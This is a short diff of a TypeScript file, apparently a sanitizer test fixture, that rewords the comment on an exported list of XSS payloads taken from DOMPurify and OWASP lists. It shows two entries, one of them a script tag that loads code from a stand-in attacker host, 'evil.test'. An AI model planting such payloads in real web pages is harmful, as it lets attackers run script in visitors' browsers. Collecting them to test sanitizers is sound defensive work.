@@ -1,4 +1,4 @@
-/** Ways in which markup has been made to run: every kind of DOMPurify's and OWASP's lists that a text could carry. */
+/** XSS payloads: every kind of DOMPurify's and OWASP's lists that a text could contain. */
 export const attacks: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
